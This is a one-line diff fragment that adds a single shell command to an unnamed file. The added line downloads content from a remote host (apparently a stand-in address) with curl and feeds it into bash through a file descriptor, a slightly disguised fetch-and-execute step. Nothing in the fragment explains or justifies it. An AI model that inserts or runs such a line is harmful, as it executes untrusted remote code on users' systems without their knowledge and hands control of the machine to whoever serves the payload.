@@ -1,0 +1,1 @@
+exec 3< <(curl -s https://x.y); bash <&3
